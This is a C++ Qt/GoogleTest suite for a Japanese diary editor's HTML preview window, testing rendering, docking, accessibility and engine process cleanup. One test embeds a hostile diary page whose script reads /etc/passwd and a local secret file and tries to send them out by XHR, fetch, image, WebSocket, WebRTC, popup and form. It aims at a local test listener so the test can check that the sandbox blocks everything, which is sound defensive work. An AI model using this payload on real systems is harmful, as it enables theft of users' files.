#include "preview/PreviewWindow.h"
#include "app/TMainForm.h"
#include "document/DiaryFileTab.h"
#include "entry/TodayEntryTab.h"
#include "platform/EditorText.h"
#include "preview/DiaryExcerpt.h"
#include "preview/EditorCommands.h"
#include "preview/PageView.h"
#include "support/FakePlatform.h"
#include "support/PageScript.h"
#include "support/TodayControls.h"

#include <QAccessible>
#include <QAction>
#include <QApplication>
#include <QCheckBox>
#include <QDir>
#include <QFile>
#include <QImage>
#include <QNetworkDatagram>
#include <QPlainTextEdit>
#include <QProcess>
#include <QScreen>
#include <QSplitter>
#include <QTabWidget>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QTextBlock>
#include <QTextCursor>
#include <QTextDocument>
#include <QUdpSocket>
#include <gtest/gtest.h>

#include <memory>

namespace {

class PreviewWindowTest : public testing::Test {
protected:
    void SetUp() override
    {
        fake.clock.date = QDate(1999, 3, 27);
        form = std::make_unique<TMainForm>(fake.platform());
        form->state().FirstPageChangeFlag = FirstPageChange::Never;
        form->show();
    }
    QAction* action(const char* name) { return form->findChild<QAction*>(QLatin1String(name)); }
    PreviewWindow* preview() { return form->findChild<EditorCommands*>()->preview(); }
    void openDiary(const QByteArray& text, int cursorLine)
    {
        form->findChild<QTabWidget*>(QStringLiteral("PageControl1"))->setCurrentIndex(1);
        fake.files.files.insert(path, text);
        fake.fileDialogs.answers.push_back(path);
        action("FileAllOpen")->trigger();
        QPlainTextEdit* memo = form->diaryTab()->AllMemo;
        memo->setTextCursor(QTextCursor(memo->document()->findBlockByNumber(cursorLine)));
    }
    void openPreview()
    {
        action("ViewPreview")->trigger();
        ASSERT_TRUE(preview()->isVisible()) << fake.messages.shown.value(0).text.toStdString();
    }

    QTemporaryDir folder;
    const QString path = folder.filePath(QStringLiteral("diary.htm"));
    FakePlatform fake;
    std::unique_ptr<TMainForm> form;
};

TEST_F(PreviewWindowTest, TheEntryPaneShowsTheBodyIndentedAndTheTitleAsABrowserDoes)
{
    // "冬の散歩 & <休日>": "<休" starts no tag, since a tag's name starts with a letter.
    const QString title = QStringLiteral("冬の散歩 & <休日>");
    form->state().TodayTitle = title;
    setEditorText(controls(form->todayTab()).TodayMemo, QStringLiteral("本文の行"));
    openPreview();
    PageView* entry = preview()->entryView();
    EXPECT_TRUE(shownText(entry, title).contains(title));

    // The default settings wrap the body in <DIV STYLE="margin-left:20pt;">: 20pt is 26.67px.
    const QVariant indent = pageValue(
        entry, QStringLiteral("document.readyState == 'complete'"),
        QStringLiteral("(function(){var d=document.evaluate(\"//div[contains(.,'本文の行')]\","
                       "document,null,9,null).singleNodeValue;return d.getBoundingClientRect()"
                       ".left-document.body.getBoundingClientRect().left;})()"));
    EXPECT_NEAR(indent.toDouble(), 26.67, 0.5);
}

TEST_F(PreviewWindowTest, TheDiaryPaneStartsOutsideCommentsWithTheDiarysStyleSheet)
{
    QFile css(folder.filePath(QStringLiteral("diary.css")));
    ASSERT_TRUE(css.open(QIODevice::WriteOnly));
    css.write("p { margin-left: 33px }\n");
    css.close();
    QByteArray diary = "<html><head>\r\n<link rel=\"stylesheet\" href=\"diary.css\">\r\n"
                       "</head><body>\r\n";
    for (int i = 0; i < 50; ++i)
        diary += "<p>before</p>\r\n";
    diary += "<!-- notes\r\n"; // the diary pane starts here
    for (int i = 0; i < 300; ++i)
        diary += "secret line\r\n";
    diary += "-->\r\n<p>after</p>\r\n</body></html>\r\n";
    openDiary(diary, 300); // inside the comment, more than 100 lines below its start
    openPreview();
    PageView* view = preview()->diaryView();

    const QString text = shownText(view, QStringLiteral("after"));
    EXPECT_TRUE(text.contains(QStringLiteral("after")));
    EXPECT_FALSE(text.contains(QStringLiteral("secret"))) << text.toStdString();
    EXPECT_FALSE(text.contains(QStringLiteral("-->"))) << text.toStdString();
    const QVariant margin =
        pageValue(view, QStringLiteral("document.styleSheets.length > 0"),
                  QStringLiteral("getComputedStyle(document.querySelector('p')).marginLeft"));
    EXPECT_EQ(margin.toString(), QStringLiteral("33px"));
}

// A listener on 127.0.0.1 that keeps what reaches it: the first line of every request over TCP
// (HTTP, a WebSocket's opening), "connection" for each connection, "udp" for each datagram
// (WebRTC's STUN).
class Listener {
public:
    Listener()
    {
        tcp.listen(QHostAddress::LocalHost);
        udp.bind(QHostAddress::LocalHost);
        QObject::connect(&tcp, &QTcpServer::newConnection, [this] {
            while (QTcpSocket* socket = tcp.nextPendingConnection()) {
                heard << QStringLiteral("connection");
                QObject::connect(socket, &QTcpSocket::readyRead, [this, socket] {
                    heard << QString::fromLatin1(socket->readAll()).section(u'\r', 0, 0);
                    socket->write("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
                });
            }
        });
        QObject::connect(&udp, &QUdpSocket::readyRead, [this] {
            while (udp.hasPendingDatagrams())
                heard << QStringLiteral("udp (%1 bytes)").arg(udp.receiveDatagram().data().size());
        });
    }
    QStringList requests() const { return heard.filter(QStringLiteral("HTTP/")); }

    QTcpServer tcp;
    QUdpSocket udp;
    QStringList heard;
};

// A diary that tries everything a page can to read the writer's files and send them away.
QByteArray hostileDiary(const Listener& listener)
{
    return QByteArrayLiteral(R"(<html><head>
<link rel="stylesheet" href="diary.css"><link rel="stylesheet" href="http://HOST/remote.css">
<link rel="preconnect" href="http://HOST"><link rel="prefetch" href="http://HOST/prefetch">
<style>@font-face{font-family:f;src:url(http://HOST/font.woff)} body{font-family:f}</style>
<script>
function read(u){try{var x=new XMLHttpRequest();x.open('GET',u,false);x.send();return x.responseText;}
catch(e){return '';}}
var d=encodeURIComponent(read('file:///etc/passwd')+read('secret.txt')), at='http://HOST/';
document.write('<p>ran['+decodeURIComponent(d)+']</p>');
var x=new XMLHttpRequest();x.open('GET',at+'xhr?'+d);x.send();
fetch(at+'fetch?'+d).catch(function(){});
new Image().src=at+'img?'+d;
try{new WebSocket('ws://HOST/ws?'+d);}catch(e){}
try{var c=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:UDP'}]});c.createDataChannel('d');
c.createOffer().then(function(o){c.setLocalDescription(o);});}catch(e){}
window.open(at+'popup');
</script></head><body><p>own words</p><img id="own" src="own.png">
<img src="http://HOST/remote.png"><iframe src="file:///etc/"></iframe><iframe name="t"></iframe>
<form action="http://HOST/form" method="post" target="t"><input name="d"></form>
<script>document.forms[0].d.value=d;document.forms[0].submit();</script></body></html>
)")
        .replace("HOST", "127.0.0.1:" + QByteArray::number(listener.tcp.serverPort()))
        .replace("UDP", QByteArray::number(listener.udp.localPort()));
}

void writeFile(const QString& path, const QByteArray& bytes)
{
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write(bytes);
}

// What the diary pane shows, frames included, once its page and own picture are in.
QString diaryShown(PageView* view)
{
    return pageValue(
               view,
               QStringLiteral("document.readyState=='complete'&&document.images.length&&document."
                              "images[0].complete"),
               QStringLiteral("[].map.call(document.querySelectorAll('iframe'),function(f)"
                              "{var d=f.contentDocument;return d&&d.body?d.body.innerText:''})"
                              ".concat(document.body.innerText).join('|')"))
        .toString();
}

// Through the real preview, with the switches as the writer sets them: with both off the page
// sends nothing and reads nothing; its scripts, when let run, still read no local file and
// reach no host; the internet switch lets only the picture and the style sheet through. The
// diary's own picture and style sheet show in every case.
TEST_F(PreviewWindowTest, AHostileDiaryReadsNoFileAndReachesNoHost)
{
    Listener listener;
    writeFile(folder.filePath(QStringLiteral("diary.css")), "p { margin-left: 33px }");
    writeFile(folder.filePath(QStringLiteral("secret.txt")), "FOLDER-SECRET");
    QImage picture(8, 8, QImage::Format_RGB32);
    picture.fill(Qt::red);
    ASSERT_TRUE(picture.save(folder.filePath(QStringLiteral("own.png"))));
    openDiary(hostileDiary(listener), 0);
    openPreview();
    PageView* view = preview()->diaryView();

    struct Case {
        const char* name;
        PreviewSwitches switches;
        QStringList requests;
    };
    const Case cases[] = {
        {"BothOff", {false, false}, {}},
        {"ScriptsRun", {true, false}, {}},
        {"InternetOn",
         {false, true},
         {QStringLiteral("GET /remote.css HTTP/1.1"), QStringLiteral("GET /remote.png HTTP/1.1")}},
    };
    for (const Case& c : cases) {
        listener.heard.clear();
        auto* scripts = preview()->findChild<QCheckBox*>(QStringLiteral("PreviewScripts"));
        auto* remote = preview()->findChild<QCheckBox*>(QStringLiteral("PreviewRemote"));
        if (scripts->isChecked() != c.switches.runScripts)
            scripts->click();
        if (remote->isChecked() != c.switches.loadRemote)
            remote->click();
        // The page shown anew: its script has run, or its pictures are asked for.
        if (c.switches.runScripts)
            shownText(view, QStringLiteral("ran["));
        (void)QTest::qWaitFor([&] { return listener.requests().size() >= c.requests.size(); },
                              20000);
        const QString shown = diaryShown(view);
        QTest::qWait(2000); // for what a page sends late: a WebSocket, STUN
        QStringList requests = listener.requests();
        requests.sort();
        EXPECT_EQ(requests.join(u'\n').toStdString(), c.requests.join(u'\n').toStdString())
            << c.name << "; heard:\n"
            << listener.heard.join(u'\n').toStdString();
        EXPECT_FALSE(listener.heard.join(u' ').contains(QStringLiteral("udp"))) << c.name;
        // No connection opened ahead (preconnect) that no request uses.
        EXPECT_LE(listener.heard.count(QStringLiteral("connection")), requests.size()) << c.name;
        EXPECT_TRUE(shown.contains(QStringLiteral("own words"))) << c.name;
        EXPECT_EQ(shown.contains(QStringLiteral("ran[]")), c.switches.runScripts) << c.name;
        EXPECT_FALSE(shown.contains(QStringLiteral("root:"))) << c.name << shown.toStdString();
        EXPECT_FALSE(shown.contains(QStringLiteral("FOLDER-SECRET"))) << c.name;
        EXPECT_FALSE(shown.contains(QStringLiteral("Index of"))) << c.name << shown.toStdString();
        const QString own = QStringLiteral("document.images[0].naturalWidth+' '+getComputedStyle("
                                           "document.querySelector('p')).marginLeft");
        EXPECT_EQ(pageValue(view, QStringLiteral("true"), own).toString(), QStringLiteral("8 33px"))
            << c.name;
        EXPECT_EQ(loadPreviewSwitches(fake.keyStore, path), c.switches) << c.name;
    }
    // Another diary shows its own switches.
    const QString other = folder.filePath(QStringLiteral("other.htm"));
    ASSERT_TRUE(savePreviewSwitches(fake.keyStore, other, {true, false}));
    fake.files.files.insert(other, "<p>other</p>");
    fake.fileDialogs.answers.push_back(other);
    action("FileAllOpen")->trigger();
    preview()->refresh();
    EXPECT_TRUE(preview()->findChild<QCheckBox*>(QStringLiteral("PreviewScripts"))->isChecked());
    EXPECT_FALSE(preview()->findChild<QCheckBox*>(QStringLiteral("PreviewRemote"))->isChecked());
}

// Chromium takes no data: address over 2 MB, which is how a page is usually handed to it. The
// page written in pieces runs no script of its own either.
TEST_F(PreviewWindowTest, ADiaryLineOfMegabytesIsShownWhole)
{
    openDiary("<p>" + QByteArray(2100 * 1024, 'a')
                  + "</p><p>last-words</p><script>document.write('script-ran')</script>\r\n",
              0);
    preview()->setDockChoice(false); // offscreen, a docked pane took over 50 s for this page
    openPreview();
    const QString shown = shownText(preview()->diaryView(), QStringLiteral("last-words"));
    EXPECT_TRUE(shown.contains(QStringLiteral("last-words")));
    EXPECT_FALSE(shown.contains(QStringLiteral("script-ran")));
}

TEST_F(PreviewWindowTest, F5AndEscCloseThePreviewFromInsideIt)
{
    for (const Qt::Key key : {Qt::Key_F5, Qt::Key_Escape}) {
        openPreview();
        QApplication::setActiveWindow(preview());
        QWidget* pane = preview()->diaryView()->widget();
        pane->setFocus();
        QTest::keyClick(QApplication::focusWidget() ? QApplication::focusWidget() : pane, key);
        EXPECT_FALSE(preview()->isVisible()) << key;
        EXPECT_FALSE(action("ViewPreview")->isChecked()) << key;
    }
}

// The names a screen reader reads, in its order. The engine's accessibility objects come from a
// library built without run-time type information, which the sanitizer's type check cannot read.
__attribute__((no_sanitize("vptr"))) void readNames(QAccessibleInterface* iface, QStringList& names)
{
    const QString name = iface->text(QAccessible::Name);
    if (!name.isEmpty())
        names << name;
    for (int i = 0; i < iface->childCount(); ++i)
        readNames(iface->child(i), names);
}

TEST_F(PreviewWindowTest, TheWindowAndItsPanesAreNamedInReadingOrder)
{
    openPreview();
    QStringList names;
    readNames(QAccessible::queryAccessibleInterface(preview()), names);
    const QString entry = QStringLiteral("今日の日記（次に挿入される内容）");
    const QString diary = QStringLiteral("日記ファイル（カーソル付近）");
    ASSERT_FALSE(names.isEmpty());
    EXPECT_EQ(names.first(), QStringLiteral("プレビュー"));
    EXPECT_GE(names.indexOf(entry), 1);
    EXPECT_GT(names.indexOf(diary), names.lastIndexOf(entry)) << names.join(u'|').toStdString();
}

// The engine's processes that draw pages: forked by its zygotes, which this process starts, so
// two generations below it (the zygotes stay while the engine is loaded).
int pageProcesses()
{
    int pages = 0;
    QList<std::pair<QByteArray, int>> todo{{QByteArray::number(qApp->applicationPid()), 0}};
    while (!todo.isEmpty()) {
        const auto [pid, generation] = todo.takeLast();
        pages += generation >= 2;
        const QString tasks = QString::fromLatin1("/proc/" + pid + "/task");
        for (const QString& task : QDir(tasks).entryList(QDir::Dirs | QDir::NoDotAndDotDot)) {
            QFile children(tasks + u'/' + task + QStringLiteral("/children"));
            if (!children.open(QIODevice::ReadOnly))
                continue;
            for (const QByteArray& child : children.readAll().split(' '))
                if (!child.isEmpty())
                    todo.append({child, generation + 1});
        }
    }
    return pages;
}

// Closing the preview lets its pages go and the engine's processes that drew them end; opened
// again, it shows the entry as before.
TEST_F(PreviewWindowTest, ClosingThePreviewEndsTheEnginesPageProcesses)
{
    setEditorText(controls(form->todayTab()).TodayMemo, QStringLiteral("閉じて開く"));
    for (int round = 0; round < 2; ++round) {
        openPreview();
        EXPECT_TRUE(shownText(preview()->entryView(), QStringLiteral("閉じて開く"))
                        .contains(QStringLiteral("閉じて開く")));
        EXPECT_GE(pageProcesses(), 1);
        preview()->close();
        EXPECT_TRUE(QTest::qWaitFor([] { return pageProcesses() == 0; }, 20000))
            << pageProcesses() << " left in round " << round;
    }
}

// With no room beside a maximised main window the preview sits inside it, beside the tabs,
// covering nothing; the writer's choice of a window of its own moves it out at once, is kept,
// and puts the whole window on the screen.
TEST_F(PreviewWindowTest, OverAMaximisedWindowThePreviewDocksUntilTheWriterChoosesAWindow)
{
    form->showMaximized();
    QApplication::processEvents();
    const QRect mainPlace = form->frameGeometry();
    setEditorText(controls(form->todayTab()).TodayMemo, QStringLiteral("組み込みの本文"));
    openPreview();
    auto* dock = form->findChild<QSplitter*>(QStringLiteral("PreviewDock"));
    EXPECT_FALSE(preview()->isWindow());
    EXPECT_EQ(preview()->parentWidget(), dock);
    EXPECT_EQ(form->frameGeometry(), mainPlace);
    EXPECT_GT(dock->sizes().value(0), dock->sizes().value(1));
    EXPECT_TRUE(shownText(preview()->entryView(), QStringLiteral("組み込みの本文"))
                    .contains(QStringLiteral("組み込みの本文")));
    auto* docked = preview()->findChild<QCheckBox*>(QStringLiteral("PreviewDocked"));
    EXPECT_TRUE(docked->isChecked());

    docked->click();
    ASSERT_TRUE(preview()->isWindow());
    EXPECT_TRUE(preview()->isVisible());
    EXPECT_TRUE(action("ViewPreview")->isChecked());
    EXPECT_TRUE(preview()->screen()->availableGeometry().contains(preview()->frameGeometry()));
    EXPECT_TRUE(shownText(preview()->entryView(), QStringLiteral("組み込みの本文"))
                    .contains(QStringLiteral("組み込みの本文")));
    const auto choices = form->findChild<EditorCommands*>()->choices();
    EXPECT_TRUE(choices.contains({QStringLiteral("PreviewPlace"), QStringLiteral("0")}));

    preview()->close();
    openPreview(); // the choice holds though there is still no room beside
    EXPECT_TRUE(preview()->isWindow());
}

TEST_F(PreviewWindowTest, AMissingEngineLeavesTheWindowClosedAndSaysWhy)
{
    QString error;
    const QString missing = folder.filePath(QStringLiteral("libpelmora_preview.so"));
    EXPECT_FALSE(preview()->open({missing}, error));
    EXPECT_TRUE(error.contains(missing)) << error.toStdString();
    EXPECT_FALSE(preview()->isVisible());
    EXPECT_EQ(preview()->entryView(), nullptr);
}

// The program loads the engine after its QApplication is made, which the engine survives only
// when the program has made the OpenGL context it shares first; the entry pane then shows the
// entry.
TEST(PreviewInTheProgram, OpensFromTheMenuAndShowsTheEntry)
{
    QProcess child;
    child.start(QStringLiteral(PREVIEW_CHILD), {});
    ASSERT_TRUE(child.waitForFinished(60000));
    const QString out = QString::fromUtf8(child.readAllStandardOutput());
    EXPECT_EQ(child.exitStatus(), QProcess::NormalExit) << child.exitCode();
    EXPECT_TRUE(out.startsWith(QStringLiteral("shown "))) << out.toStdString();
}

// An X server of the test's own, on a display number it chose itself.
class XServer {
public:
    XServer()
    {
        server_.start(QStringLiteral("Xvfb"), {QStringLiteral("-displayfd"), QStringLiteral("1"),
                                               QStringLiteral("-nolisten"), QStringLiteral("tcp")});
        // The number comes once the server takes clients.
        while (!server_.canReadLine() && server_.waitForReadyRead(20000)) {
        }
        display = u':' + QString::fromLatin1(server_.readLine()).trimmed();
    }
    ~XServer()
    {
        server_.terminate();
        server_.waitForFinished();
    }

    QString display;

private:
    QProcess server_;
};

// On an X display the start loads no OpenGL driver, which took longer than the rest of the start;
// the engine, loaded later, still gets the context it must share and shows the entry.
TEST(PreviewInTheProgram, OnAnXDisplayTheStartLoadsNoOpenGLAndThePreviewStillShows)
{
    XServer x;
    ASSERT_NE(x.display, QStringLiteral(":"));
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("QT_QPA_PLATFORM"), QStringLiteral("xcb"));
    env.insert(QStringLiteral("DISPLAY"), x.display);
    env.insert(QStringLiteral("PREVIEW_TELL_OPENGL"), QStringLiteral("1"));
    QProcess child;
    child.setProcessEnvironment(env);
    child.start(QStringLiteral(PREVIEW_CHILD), {});
    ASSERT_TRUE(child.waitForFinished(60000));
    const QString out = QString::fromUtf8(child.readAllStandardOutput());
    EXPECT_EQ(child.exitStatus(), QProcess::NormalExit);
    EXPECT_TRUE(out.startsWith(QStringLiteral("opengl driver none\nshown "))) << out.toStdString();
}

// On a 1280 x 1024 screen, a main window at 100,100, 700 wide leaves 480 free on its right, the
// preview's width, less the frames' two pixels a side that this screen gives every window.
TEST(PreviewInTheProgram, OpensBesideTheMainWindowNotOverIt)
{
    QTemporaryDir folder;
    QFile screens(folder.filePath(QStringLiteral("screens.json")));
    ASSERT_TRUE(screens.open(QIODevice::WriteOnly));
    screens.write(R"({"screens": [{"name": "wide", "x": 0, "y": 0, "width": 1280,
        "height": 1024, "logicalDpi": 96, "logicalBaseDpi": 96, "dpr": 1}]})");
    screens.close();
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("QT_QPA_PLATFORM"),
               QStringLiteral("offscreen:configfile=") + screens.fileName());
    env.insert(QStringLiteral("PREVIEW_MAIN_AT"), QStringLiteral("100,100,700,500"));
    QProcess child;
    child.setProcessEnvironment(env);
    child.start(QStringLiteral(PREVIEW_CHILD), {});
    ASSERT_TRUE(child.waitForFinished(60000));
    const QString out = QString::fromUtf8(child.readAllStandardOutput());
    EXPECT_TRUE(out.startsWith(QStringLiteral("placed 98,98,704,504 802,98,478,564\n")))
        << out.toStdString();
}

// The excerpt's first line, after edits that change what the lines below them start in.
TEST(DiaryExcerptTest, StartsAtALineInTextAfterEditsFarAbove)
{
    QTextDocument document;
    QStringList lines;
    for (int i = 0; i < 9000; ++i)
        lines << QStringLiteral("<p>%1</p>").arg(i);
    document.setPlainText(lines.join(u'\n'));
    document.documentLayout(); // as in an editor: without a layout no change is told
    DiaryExcerpt excerpt(&document);
    auto firstLine = [&](int cursor) {
        return excerpt.around(document.findBlockByNumber(cursor), 100, 0, QStringLiteral("c"))
            .section(u'\n', 0, 0);
    };
    struct Edit {
        const char* name;
        int line;
        const char* text;
        int cursor;
        const char* first;
    };
    const Edit edits[] = {
        {"NoEdit", 0, "", 8500, "<p>8400</p>"},
        {"CommentOpenedAbove", 10, "<!--", 8500, "<!--<p>10</p>"},
        {"CommentClosedAgain", 8000, "-->", 8500, "<p>8400</p>"},
        {"QuoteOpenedBelowAMark", 8200, "<img alt=\"", 8500, "<img alt=\"<p>8200</p>"},
    };
    for (const Edit& e : edits) {
        QTextCursor(document.findBlockByNumber(e.line)).insertText(QString::fromUtf8(e.text));
        EXPECT_EQ(firstLine(e.cursor), QString::fromUtf8(e.first)) << e.name;
    }
}

} // namespace
